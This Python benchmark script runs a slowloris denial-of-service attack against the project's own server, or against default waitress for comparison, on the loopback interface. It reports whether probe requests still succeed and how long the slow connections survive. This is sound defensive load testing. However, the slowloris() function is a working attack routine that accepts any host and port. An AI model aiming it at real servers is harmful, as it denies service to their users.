"""Slow connections against the production server: do other clients still get answers?

Starts the server (``web.server.make_server``, or waitress with its defaults with
``--plain``, for comparison) on 127.0.0.1, opens ``--sockets`` connections that each send
a request line and then one header line every ``--interval`` seconds, never finishing
the request, and meanwhile sends normal requests (a new connection each) every
``--probe-every`` seconds. Prints how the normal requests fared and how long the server
let the slow connections live.

    .venv/bin/python bench/attack_slowloris.py --sockets 300 --seconds 60 --interval 5
    .venv/bin/python bench/attack_slowloris.py --sockets 105 --seconds 30 --interval 5 --plain

Closed slow connections are reopened at once (``--once``: not), as an attacker would.

Traffic stays on the loopback interface; every loop ends after ``--seconds``.
"""

from __future__ import annotations

import argparse
import http.client
import json
import logging
import selectors
import socket
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

PROBE_PATH = "/api/search?q=%D8%A7%D9%84%D8%AF%D9%81%D8%A7%D8%B9"  # الدفاع


def slowloris(port: int, sockets: int = 120, seconds: float = 10, interval: float = 1,
              probe_every: float = 0.25, probe_timeout: float = 5, host: str = "127.0.0.1",
              reconnect: bool = False) -> dict:
    """Run the attack against ``host:port`` for ``seconds``; return what happened.
    ``reconnect``: replace each slow connection the server closes by a new one (else the
    attack ends early once the server has closed them all)."""
    probes: list[float] = []
    failures: list[str] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            started = time.perf_counter()
            try:
                connection = http.client.HTTPConnection(host, port, timeout=probe_timeout)
                connection.request("GET", PROBE_PATH)
                response = connection.getresponse()
                response.read()
                connection.close()
                if response.status != 200:
                    failures.append(f"HTTP {response.status}")
                else:
                    probes.append(time.perf_counter() - started)
            except OSError as error:
                failures.append(f"{type(error).__name__} after {time.perf_counter() - started:.1f} s")
            stop.wait(probe_every)

    selector = selectors.DefaultSelector()
    opened: dict[socket.socket, float] = {}
    lifetimes: list[float] = []
    refused = 0
    started_sockets = 0

    def open_one() -> None:
        nonlocal refused, started_sockets
        try:
            slow = socket.create_connection((host, port), timeout=2)
            slow.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            slow.setblocking(False)
        except OSError:
            refused += 1
            return
        started_sockets += 1
        opened[slow] = time.monotonic()
        selector.register(slow, selectors.EVENT_READ)

    for _ in range(sockets):
        open_one()
    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    deadline = time.monotonic() + seconds
    next_trickle = time.monotonic() + interval

    def closed(slow: socket.socket) -> None:
        lifetimes.append(time.monotonic() - opened.pop(slow))
        selector.unregister(slow)
        slow.close()
        if reconnect and time.monotonic() < deadline:
            open_one()

    try:
        while time.monotonic() < deadline and opened:
            for key, _ in selector.select(timeout=min(0.2, max(0.0, next_trickle - time.monotonic()))):
                try:
                    data = key.fileobj.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    closed(key.fileobj)
            if time.monotonic() >= next_trickle:
                for slow in list(opened):
                    try:
                        slow.send(b"X-Slow: 1\r\n")
                    except BlockingIOError:
                        pass
                    except OSError:
                        closed(slow)
                next_trickle += interval
    finally:
        stop.set()
        prober.join(probe_timeout + 5)
        still_open = len(opened)
        for slow in list(opened):
            selector.unregister(slow)
            slow.close()
        selector.close()
    probes.sort()
    return {
        "slow_sockets": sockets - refused, "slow_connections_opened": started_sockets, "refused": refused,
        "closed_by_server": len(lifetimes), "still_open_at_end": still_open,
        "max_slow_lifetime_s": round(max(lifetimes), 1) if lifetimes else None,
        "probe_requests": len(probes) + len(failures), "probe_failures": len(failures),
        "failure_kinds": sorted(set(failures))[:5],
        "probe_p50_ms": round(statistics.median(probes) * 1000, 1) if probes else None,
        "probe_max_ms": round(probes[-1] * 1000, 1) if probes else None,
    }


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--sockets", type=int, default=300)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--interval", type=float, default=5)
    parser.add_argument("--plain", action="store_true", help="waitress with its default settings")
    parser.add_argument("--once", action="store_true", help="do not reopen the connections the server closes")
    args = parser.parse_args(argv)
    from search import Index
    from web import create_app
    from web.server import make_server
    from waitress.server import create_server

    logging.getLogger("waitress").setLevel(logging.ERROR)
    with tempfile.TemporaryDirectory(prefix="slowloris-") as work:
        index = Index.build(ROOT / "index_data", Path(work) / "index")
        if args.plain:
            server = create_server(create_app({"INDEX_DIR": str(index.index_dir)}), host="127.0.0.1",
                                   port=0, threads=4)
        else:
            server = make_server(port=0, index_dir=index.index_dir)
        serving = threading.Thread(target=server.run, daemon=True)
        serving.start()
        try:
            outcome = slowloris(int(server.effective_port), args.sockets, args.seconds, args.interval,
                                reconnect=not args.once)
        finally:
            server.close()
            serving.join(10)
    outcome["server"] = "waitress defaults" if args.plain else "web.server.make_server"
    print(json.dumps(outcome, indent=1))
    return 1 if outcome["probe_failures"] else 0


if __name__ == "__main__":
    sys.exit(main())
